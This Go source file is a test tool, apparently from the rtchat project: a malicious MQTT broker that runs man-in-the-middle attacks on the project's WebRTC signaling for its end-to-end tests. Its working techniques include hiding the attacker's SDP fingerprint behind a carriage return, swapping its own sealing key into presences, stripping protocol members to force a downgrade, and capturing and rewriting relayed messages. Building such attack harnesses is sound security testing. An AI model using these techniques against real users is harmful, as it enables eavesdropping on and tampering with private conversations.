// Command mitm is a malicious MQTT broker for rtchat's end-to-end attack tests
// (e2e/attack_mitm_test.go). Victims use it as their broker; it rewrites the room's
// signaling in flight and puts its own pion PeerConnections between them. It is written
// against the wire format (shared/protocol/rtchat-wire.md, docs/protocol.md), not rtchat's
// core, and relays generically: every data channel a victim opens, every message, whatever
// its label.
//
// Modes (--mode):
//
//	hidden-fingerprint  full man in the middle: x's offer to y is dropped; the attacker offers
//	                    to y as x (x's envelope, its own SDP), takes y's answer, answers x as y
//	                    (y's envelope, its own SDP). In each forwarded SDP its own
//	                    a=fingerprint line is hidden behind a leading '\r' (see sdp.go) and
//	                    followed by the victim's, so a naive line scan reads the victim's
//	                    fingerprint while pion's parser and DTLS use the attacker's.
//	downgrade           the same, and every `rtchat` member is deleted from every envelope's
//	                    data (connect, offers, answers): each side takes the other for a web
//	                    page. Offers a listener would never send to a dialer (it only sends
//	                    them because it was fooled) are dropped.
//	relay-sessions      the attacker is its own pinned identity (--identity-dir): it answers
//	                    x's offer as y with an honest SDP, connects honestly to y as itself,
//	                    relays x's messages (identity challenges included) to y and y's
//	                    answers back, and answers y's questions as itself.
//
// --rewrite-answer TEXT replaces the answer to any non-identity question on the `answer`
// channel. Status goes to stdout as NDJSON, one object per line with an "event" member:
// ready, intercepted, dropped, stripped, forged (with the fingerprint a line scan and pion's
// parser each read in the forged SDP), offered, no-answer, late-answer, connected, channel,
// relayed (label, from, to, binary, bytes), captured (text frames), rewrote,
// swapped-seal-key (our sealing key put into an rtchat presence),
// answered-as-self, disconnected, session-end, error, and summary (on SIGTERM/SIGINT, last).
package main

import (
	"crypto/ecdh"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"sort"
	"sync"
	"syscall"
	"time"

	mqtt "github.com/mochi-mqtt/server/v2"
	"github.com/mochi-mqtt/server/v2/hooks/auth"
	"github.com/mochi-mqtt/server/v2/listeners"
	"github.com/mochi-mqtt/server/v2/packets"
	"github.com/pion/webrtc/v4"

	"github.com/rtchat/rtchat/keys"
)

const (
	modeHidden    = "hidden-fingerprint"
	modeDowngrade = "downgrade"
	modeRelay     = "relay-sessions"
)

func main() {
	mode := flag.String("mode", modeHidden, "hidden-fingerprint, downgrade or relay-sessions")
	listen := flag.String("listen", "127.0.0.1:0", "MQTT TCP listener address")
	rewrite := flag.String("rewrite-answer", "", "replace answers to ordinary questions with this text")
	idDir := flag.String("identity-dir", "", "relay-sessions: the rtchat config dir holding the attacker's own identity")
	name := flag.String("name", "", "relay-sessions: the attacker's full name (default NAME(mitm) from its identity)")
	answerWait := flag.Duration("answer-wait", 5*time.Second, "how long to wait for the target's answer to a forged offer")
	flag.Parse()

	sealKey, err := ecdh.X25519().GenerateKey(rand.Reader) // we would open what is sealed to it
	if err != nil {
		fatal(err.Error())
	}
	a := &attacker{
		sealKey: base64.RawURLEncoding.EncodeToString(sealKey.PublicKey().Bytes()),
		mode:    *mode, rewrite: *rewrite, answerWait: *answerWait,
		sessions: map[[2]string]*session{}, expect: map[[2]string]chan envelope{},
		roles: map[string]string{}, stats: map[[3]string]*stat{},
	}
	switch a.mode {
	case modeHidden, modeDowngrade:
	case modeRelay:
		if *idDir == "" {
			fatal("relay-sessions needs --identity-dir")
		}
		id, err := keys.Open(*idDir).LoadIdentity()
		if err != nil {
			fatal(err.Error())
		}
		a.id, a.me = id, *name
		if a.me == "" {
			a.me = id.Name + "(mitm)"
		}
	default:
		fatal("unknown --mode " + a.mode)
	}

	// mochi logs to stdout by default: keep stdout for our NDJSON.
	log := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	a.srv = mqtt.New(&mqtt.Options{InlineClient: true, Logger: log})
	if err := a.srv.AddHook(new(auth.AllowHook), nil); err != nil {
		fatal(err.Error())
	}
	if err := a.srv.AddHook(&hook{a: a}, nil); err != nil {
		fatal(err.Error())
	}
	tcp := listeners.NewTCP(listeners.Config{ID: "mitm", Address: *listen})
	if err := a.srv.AddListener(tcp); err != nil {
		fatal(err.Error())
	}
	if err := a.srv.Serve(); err != nil {
		fatal(err.Error())
	}
	a.emit(map[string]any{"event": "ready", "url": "mqtt://" + tcp.Address(), "mode": a.mode, "name": a.me})

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
	a.shutdown()
}

func fatal(msg string) {
	fmt.Fprintln(os.Stderr, "mitm:", msg)
	os.Exit(2)
}

type stat struct {
	Label       string `json:"label"`
	From        string `json:"from"`
	To          string `json:"to"`
	Messages    int    `json:"messages"`
	BinaryBytes int64  `json:"binary_bytes"`
	TextBytes   int64  `json:"text_bytes"`
}

// attacker is the broker and everything it does to the room.
type attacker struct {
	sealKey    string // our X25519 public key, base64url, swapped into rtchat presences
	mode       string
	rewrite    string
	answerWait time.Duration
	id         *keys.Identity // relay-sessions
	me         string         // relay-sessions: the attacker's own full name
	srv        *mqtt.Server

	outMu sync.Mutex

	mu       sync.Mutex
	closing  bool
	sessions map[[2]string]*session      // by unordered pair of victims
	expect   map[[2]string]chan envelope // answers for our offers: [from, to]
	roles    map[string]string           // full name -> rtchat role it really claimed
	stats    map[[3]string]*stat         // [label, from, to]
	all      []*session
	wg       sync.WaitGroup
}

// emit writes one NDJSON status line.
func (a *attacker) emit(ev map[string]any) {
	b, err := json.Marshal(ev)
	if err != nil {
		return
	}
	a.outMu.Lock()
	defer a.outMu.Unlock()
	_, _ = os.Stdout.Write(append(b, '\n'))
}

// publish sends a forged envelope into the room as the broker's inline client.
func (a *attacker) publish(topic string, env envelope) {
	if err := a.srv.Publish(topic, encodeEnvelope(env), false, 0); err != nil {
		a.emit(map[string]any{"event": "error", "err": "publish: " + err.Error()})
	}
}

// count records and reports one relayed message. Text frames are reported with their
// content (the attacker sees plaintext), except on the pipe channel, whose text frames are
// only stream control.
func (a *attacker) count(label, from, to string, m webrtc.DataChannelMessage) {
	a.mu.Lock()
	k := [3]string{label, from, to}
	st := a.stats[k]
	if st == nil {
		st = &stat{Label: label, From: from, To: to}
		a.stats[k] = st
	}
	st.Messages++
	if m.IsString {
		st.TextBytes += int64(len(m.Data))
	} else {
		st.BinaryBytes += int64(len(m.Data))
	}
	a.mu.Unlock()
	a.emit(map[string]any{"event": "relayed", "label": label, "from": from, "to": to, "binary": !m.IsString, "bytes": len(m.Data)})
	if m.IsString {
		text := string(m.Data)
		if len(text) > 600 {
			text = text[:600] + "…"
		}
		a.emit(map[string]any{"event": "captured", "label": label, "from": from, "to": to, "text": text})
	}
}

func pairKey(p, q string) [2]string {
	if p > q {
		p, q = q, p
	}
	return [2]string{p, q}
}

// startSession begins an attack on an intercepted offer, unless the pair is already under
// attack. It reports whether it started one.
func (a *attacker) startSession(topic string, offer envelope, target string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	k := pairKey(offer.Sender, target)
	if a.closing || a.sessions[k] != nil {
		return false
	}
	s := &session{a: a, x: offer.Sender, y: target, asY: offer.Sender, topic: topic, offer: offer,
		answer: make(chan envelope, 1), done: make(chan struct{})}
	if a.mode == modeRelay {
		s.asY = a.me
	}
	s.ctx, s.stop = contextWithCancel()
	a.sessions[k] = s
	a.expect[[2]string{target, s.asY}] = s.answer
	a.all = append(a.all, s)
	a.wg.Add(1)
	go func() {
		defer a.wg.Done()
		s.run()
	}()
	return true
}

func (a *attacker) endSession(s *session) {
	a.mu.Lock()
	defer a.mu.Unlock()
	k := pairKey(s.x, s.y)
	if a.sessions[k] == s {
		delete(a.sessions, k)
	}
	ek := [2]string{s.y, s.asY}
	if a.expect[ek] == s.answer {
		delete(a.expect, ek)
	}
}

// underAttack says whether a pair of names has a session.
func (a *attacker) underAttack(p, q string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.sessions[pairKey(p, q)] != nil
}

// onEnvelope decides what happens to one publication: pass (possibly edited) or drop.
func (a *attacker) onEnvelope(topic string, env envelope) (out *envelope, drop bool) {
	edited := false
	switch env.Subtopic {
	case subConnect:
		if r := userRole(env.Data); r != "" {
			a.mu.Lock()
			a.roles[env.Sender] = r
			a.mu.Unlock()
		}
	case subOffer:
		target := getString(env.Data, "offer", "target")
		realRole := userRole(getRaw(env.Data, "userInfo"))
		a.mu.Lock()
		if realRole != "" {
			a.roles[env.Sender] = realRole
		}
		targetRole := a.roles[target]
		a.mu.Unlock()
		ev := map[string]any{"event": "intercepted", "subtopic": env.Subtopic, "from": env.Sender, "to": target}
		if a.mode == modeDowngrade && realRole == "listen" && targetRole != "" && targetRole != "listen" {
			// Only our downgrade made the listener offer to a dialer: a second
			// negotiation for the pair would only race the one we run.
			ev["event"], ev["why"] = "dropped", "listener offering to a dialer"
			a.emit(ev)
			return nil, true
		}
		if !a.startSession(topic, env, target) {
			ev["event"], ev["why"] = "dropped", "pair already under attack"
		}
		a.emit(ev)
		return nil, true
	case subAnswer:
		target := getString(env.Data, "target")
		a.mu.Lock()
		ch := a.expect[[2]string{env.Sender, target}]
		a.mu.Unlock()
		if ch != nil {
			select {
			case ch <- env:
			default:
			}
			a.emit(map[string]any{"event": "intercepted", "subtopic": env.Subtopic, "from": env.Sender, "to": target})
			return nil, true
		}
		if a.underAttack(env.Sender, target) {
			a.emit(map[string]any{"event": "dropped", "subtopic": env.Subtopic, "from": env.Sender, "to": target})
			return nil, true
		}
	}
	if a.mode != modeDowngrade && env.Subtopic == subConnect && getString(env.Data, "rtchat", "seal", "key") != "" {
		// Between rtchat peers offers are sealed to the key in the target's presence
		// (docs/rtchat-protocol.md, "Sealed signaling"): put ours there, so that what is sealed
		// to it is ours to read and to rewrite. Its signature stays the peer's: we cannot
		// sign for the pinned key.
		if d, err := setPath(env.Data, a.sealKey, "rtchat", "seal", "key"); err == nil {
			env.Data = d
			edited = true
			a.emit(map[string]any{"event": "swapped-seal-key", "from": env.Sender})
		}
	}
	if a.mode == modeDowngrade && stripRTChat(&env) {
		a.emit(map[string]any{"event": "stripped", "subtopic": env.Subtopic, "from": env.Sender})
		edited = true
	}
	if edited {
		return &env, false
	}
	return nil, false
}

// shutdown ends every session, reports the totals and stops the broker.
func (a *attacker) shutdown() {
	a.mu.Lock()
	a.closing = true
	all := append([]*session(nil), a.all...)
	a.mu.Unlock()
	for _, s := range all {
		s.stop()
	}
	a.wg.Wait()
	a.mu.Lock()
	stats := make([]*stat, 0, len(a.stats))
	for _, st := range a.stats {
		stats = append(stats, st)
	}
	sessions := len(a.all)
	a.mu.Unlock()
	sort.Slice(stats, func(i, j int) bool {
		if stats[i].Label != stats[j].Label {
			return stats[i].Label < stats[j].Label
		}
		return stats[i].From < stats[j].From
	})
	_ = a.srv.Close()
	a.emit(map[string]any{"event": "summary", "sessions": sessions, "relayed": stats})
}

// hook is the mochi hook that hands every PUBLISH of the room to the attacker.
type hook struct {
	mqtt.HookBase
	a *attacker
}

func (h *hook) ID() string { return "mitm" }

func (h *hook) Provides(b byte) bool { return b == mqtt.OnPublish }

func (h *hook) OnPublish(cl *mqtt.Client, pk packets.Packet) (packets.Packet, error) {
	if cl.Net.Inline {
		return pk, nil // our own forgeries
	}
	env, err := decodeEnvelope(pk.Payload)
	if err != nil {
		return pk, nil
	}
	out, drop := h.a.onEnvelope(pk.TopicName, env)
	if drop {
		return pk, packets.ErrRejectPacket
	}
	if out != nil {
		pk.Payload = encodeEnvelope(*out)
	}
	return pk, nil
}
